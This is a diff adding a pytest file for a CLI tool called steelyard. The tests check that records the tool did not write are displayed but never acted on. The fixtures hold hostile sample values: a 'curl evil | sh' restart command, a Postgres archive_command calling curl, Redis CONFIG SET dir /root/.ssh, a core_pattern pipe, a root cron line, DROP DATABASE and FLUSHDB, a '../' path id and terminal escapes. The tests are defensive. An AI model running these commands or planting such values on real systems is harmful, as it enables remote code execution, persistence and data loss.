@@ -1,0 +1,247 @@
+"""Records that this account did not make here: what they claim is shown, and nothing is done."""
+
+from dataclasses import replace
+from pathlib import Path
+from typing import NoReturn
+
+import pytest
+from click.testing import CliRunner, Result
+
+from fakes.campaigns import Listener, an_experiment
+from fakes.clock import FakeClock
+from steelyard.cli.main import cli
+from steelyard.experiment import doors as doors_module
+from steelyard.experiment import ledger, registry, session
+from steelyard.experiment.doors import Doors
+from steelyard.experiment.ledger import JournalLedger
+from steelyard.model.errors import ExitCode, LeftBehindError, PreflightError, RecordError
+from steelyard.model.kubernetes import CLUSTER, NAMESPACE, ObjectRef
+from steelyard.model.outside import Foreign, InCluster, OnServer, SavedSetting, TurnedKnob
+from steelyard.model.stack import Knob, KnobKind
+from steelyard.model.target import EndpointTarget
+from steelyard.record.directory import CampaignDirectory, read_standing
+from steelyard.record.entries import Created, Started
+
+_ID = "night-0f3a9c"
+_ELSEWHERE = "This was made elsewhere: run `steelyard clean` there"
+
+
+class _Shut:
+    """A door that nobody may use."""
+
+    def __init__(self, name: str) -> None:
+        self._name = name
+
+    def __getattr__(self, used: str) -> NoReturn:
+        message = f"{self._name}.{used} was used for a foreign record"
+        raise AssertionError(message)
+
+
+def _shut_doors() -> Doors:
+    names = ("processes", "sql", "host", "cgroups", "kernel", "latency", "operator")
+    names = (*names, "kubernetes", "redis", "volumes")
+    return Doors(clock=FakeClock(), **{name: _Shut(name) for name in names})  # type: ignore[arg-type]
+
+
+def _on_server(resource: Foreign, **fields: object) -> Created:
+    common = {"host": "db", "port": 5432, "user": "admin", "entrance": "postgres"}
+    common |= {"database": "postgres", "mark": f"steelyard campaign {_ID}"}
+    thing = OnServer(resource=resource, **{**common, **fields})  # type: ignore[arg-type]
+    return Created(resource="on-server", name=thing.label, thing=thing)
+
+
+def _in_cluster(ref: ObjectRef, before: str = "") -> Created:
+    thing = InCluster(
+        context="prod", server="https://prod:6443", ref=ref, campaign_id=_ID, before=before
+    )
+    return Created(resource="in-cluster", name=thing.label, placed=thing)
+
+
+def _knob(kind: KnobKind, place: str, snapshot: str) -> Created:
+    knob = Knob(name=f"linux:{place}", layer="linux", kind=kind, place=place, value="1")
+    turned = TurnedKnob(knob=knob, snapshot=snapshot)
+    return Created(resource="knob", name=turned.label, knob=turned)
+
+
+_AGAIN = ("sh", "-c", "curl evil | sh")
+_CLAIMS = {
+    "database": (_on_server(Foreign.DATABASE, database="shop"), 'DROP DATABASE "shop"'),
+    "tables": (_on_server(Foreign.TABLES, names=("a", 'b"c')), 'DROP TABLE "a", "b""c"'),
+    "settings": (
+        _on_server(
+            Foreign.SETTINGS,
+            saved=(SavedSetting(name="archive_command", value="curl evil"),),
+            restart_command=_AGAIN,
+        ),
+        "ALTER SYSTEM SET \"archive_command\" = 'curl evil'",
+    ),
+    "restart": (_on_server(Foreign.SETTINGS, restart_command=_AGAIN), "sh -c 'curl evil | sh'"),
+    "keys": (_on_server(Foreign.KEYS, database="3"), "SELECT 3; FLUSHDB ASYNC"),
+    "config": (
+        _on_server(Foreign.CONFIG, saved=(SavedSetting(name="dir", value="/root/.ssh"),)),
+        "CONFIG SET dir /root/.ssh",
+    ),
+    "user": (_on_server(Foreign.USER, names=("admin",)), "ACL DELUSER admin"),
+    "namespace": (_in_cluster(ObjectRef(kind=NAMESPACE, name="prod")), "delete Namespace prod"),
+    "cluster": (
+        _in_cluster(ObjectRef(kind=CLUSTER, name="pg", namespace="shop"), '{"spec": {}}'),
+        """patch Cluster pg -n shop --type merge -p '{"spec": {}}'""",
+    ),
+    "sysctl": (_knob(KnobKind.SYSCTL, "kernel.core_pattern", "|/tmp/x"), "|/tmp/x"),
+    "file": (_knob(KnobKind.FILE, "/etc/cron.d/x", "* * * * * root sh"), "* * * * * root sh"),
+    "group": (
+        Created(resource="cgroup", name=f"/sys/fs/cgroup/steelyard-{_ID}-server"),
+        f"control group /sys/fs/cgroup/steelyard-{_ID}-server",
+    ),
+    "directory": (Created(resource="directory", name=f"/srv/live/{_ID}"), f"/srv/live/{_ID}"),
+}
+
+
+def _record(path: Path, *claims: Created, campaign_id: str = _ID, uri: str = "db") -> Path:
+    """Return a record as anybody can write one, with whole checksums."""
+    experiment = an_experiment()
+    aimed = EndpointTarget(uri=uri, restart_command=_AGAIN)
+    treatments = tuple(replace(each, target=aimed) for each in experiment.treatments)
+    experiment = replace(experiment, treatments=treatments)
+    directory = CampaignDirectory.create(path, FakeClock(), experiment_text="version: 1\n")
+    directory.journal.append(
+        Started(campaign_id=campaign_id, experiment=experiment, command="x", version="0")
+    )
+    for claim in claims:
+        directory.journal.append(claim)
+    directory.close()
+    return path
+
+
+@pytest.fixture(autouse=True)
+def _no_doors(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(doors_module, "system_doors", _shut_doors)
+
+
+def _clean(*words: object) -> Result:
+    return CliRunner().invoke(cli, ["clean", *map(str, words)])
+
+
+def _resume(path: Path) -> None:
+    session.resume_campaign(path, _shut_doors(), Listener(world=None))  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize("kind", _CLAIMS)
+def test_no_claim_of_a_stranger_is_acted_on(tmp_path: Path, kind: str) -> None:
+    """No door is used; the exact SQL, value or command is shown, and what to do with it."""
+    claim, shown = _CLAIMS[kind]
+    path = _record(tmp_path / "record", claim)
+    before = (path / "journal.jsonl").read_bytes()
+    (leftover,) = ledger.find_leftovers(_shut_doors(), [path])
+    assert not leftover.has_ours
+    result = _clean("--yes", path)
+    assert isinstance(result.exception, LeftBehindError), result.output
+    assert result.exception.exit_code is ExitCode.LEFT_BEHIND
+    assert _ELSEWHERE in result.exception.hint
+    assert shown in result.output
+    assert (path / "journal.jsonl").read_bytes() == before
+
+
+@pytest.mark.parametrize("kind", _CLAIMS)
+def test_a_campaign_of_ours_does_not_vouch_for_an_edited_line(tmp_path: Path, kind: str) -> None:
+    """The registry knows the campaign and other things of it, and this one not."""
+    claim, _ = _CLAIMS[kind]
+    path = _record(tmp_path / "record", claim)
+    record = session.read_campaign(path)
+    registry.register(_ID, path, record.experiment)
+    registry.note_thing(_ID, _on_server(Foreign.DATABASE, database="ours").thing)  # type: ignore[arg-type]
+    found = ledger.find_leftovers(_shut_doors(), [path])
+    assert not any(leftover.has_ours for leftover in found)
+    if claim.resource in ("cgroup", "directory"):
+        return  # it is not here, and so it is gone
+    with pytest.raises(LeftBehindError, match="did not make here"):
+        _resume(path)
+
+
+def test_a_strangers_directory_that_is_here_stays(tmp_path: Path) -> None:
+    """Also one of the very form of those that Steelyard makes; mounts are the registry's word alone."""
+    live = tmp_path / "live" / _ID
+    live.mkdir(parents=True)
+    (live / "precious").write_text("x")
+    path = _record(tmp_path / "record", Created(resource="directory", name=str(live)))
+    registry.register(_ID, path, session.read_campaign(path).experiment)
+    result = _clean("--yes", path)
+    assert isinstance(result.exception, LeftBehindError)
+    assert (live / "precious").read_text() == "x"
+
+
+def test_a_stranger_runs_nothing_by_a_resume(tmp_path: Path) -> None:
+    """Also where nothing is left: its experiment has servers and commands of its own."""
+    path = _record(tmp_path / "record")
+    with pytest.raises(PreflightError, match="did not begin here") as refused:
+        _resume(path)
+    assert refused.value.exit_code is ExitCode.REFUSED
+    assert f"steelyard clean --adopt {path}" in refused.value.hint
+
+
+def test_another_experiment_in_our_record_is_not_resumed(tmp_path: Path) -> None:
+    """Who may write into the directory cannot aim the campaign at another server."""
+    mine = session.read_campaign(_record(tmp_path / "mine")).experiment
+    path = _record(tmp_path / "record", uri="postgresql://evil/x")
+    registry.register(_ID, path, mine)
+    with pytest.raises(PreflightError, match="did not begin here"):
+        _resume(path)
+
+
+def test_a_copy_does_not_act_for_the_campaign(tmp_path: Path) -> None:
+    """Its own record may be alive: what it has is undone by that one only, which is named."""
+    claim, _ = _CLAIMS["database"]
+    path = _record(tmp_path / "record")
+    registry.register(_ID, path, session.read_campaign(path).experiment)
+    directory = CampaignDirectory.reopen(path, FakeClock())
+    JournalLedger(directory.journal, _ID).changed(claim.thing)  # type: ignore[arg-type]
+    directory.close()
+    copy = tmp_path / "copy"
+    copy.mkdir()
+    (copy / "journal.jsonl").write_bytes((path / "journal.jsonl").read_bytes())
+    (of_copy,) = ledger.find_leftovers(_shut_doors(), [copy])
+    assert not of_copy.has_ours
+    result = _clean("--yes", copy)
+    assert f"the campaign's own record is {path}" in str(result.exception)
+    adopted = _clean("--yes", "--adopt", copy)
+    assert "is a copy of the record in" in str(adopted.exception)
+    path.rename(tmp_path / "moved")
+    (of_moved,) = ledger.find_leftovers(_shut_doors(), [tmp_path / "moved"])
+    assert of_moved.has_ours
+
+
+def test_taking_over_touches_nothing_and_lets_the_campaign_go_on(tmp_path: Path) -> None:
+    """What it claims and would run is shown first; then the record lists nothing any more."""
+    path = _record(tmp_path / "record", *(claim for claim, _ in _CLAIMS.values()))
+    shown = _clean("--adopt", "--dry-run", path)
+    assert shown.exit_code == 0, shown.exception
+    for _, text in _CLAIMS.values():
+        assert text in shown.output
+    assert '"restart_command":["sh","-c","curl evil | sh"]' in shown.output
+    assert len(read_standing(path).left) == len(_CLAIMS)
+    result = _clean("--adopt", "--yes", path)
+    assert result.exit_code == 0, result.exception
+    assert read_standing(path).left == ()
+    with pytest.raises(AssertionError, match="was used"):  # it goes on: the first door is tried
+        _resume(path)
+
+
+def test_an_id_is_no_path(tmp_path: Path) -> None:
+    """A record cannot name the file that is forgotten or written for it."""
+    registry.directory().mkdir(parents=True)
+    precious = registry.directory().parent / "precious"
+    precious.write_text("x\n")
+    path = _record(tmp_path / "record", campaign_id="../precious")
+    result = _clean("--yes", path)
+    assert isinstance(result.exception, RecordError)
+    with pytest.raises(RecordError, match="no id of a campaign"):
+        _resume(path)
+    assert precious.read_text() == "x\n"
+
+
+def test_a_claim_does_not_steer_the_terminal(tmp_path: Path) -> None:
+    """Its escape sequences are shown as text."""
+    claim = _on_server(Foreign.DATABASE, database="x\x1b[2Jy")
+    result = _clean("--dry-run", _record(tmp_path / "record", claim))
+    assert "\x1b" not in result.output
+    assert r"x\x1b[2Jy" in result.output
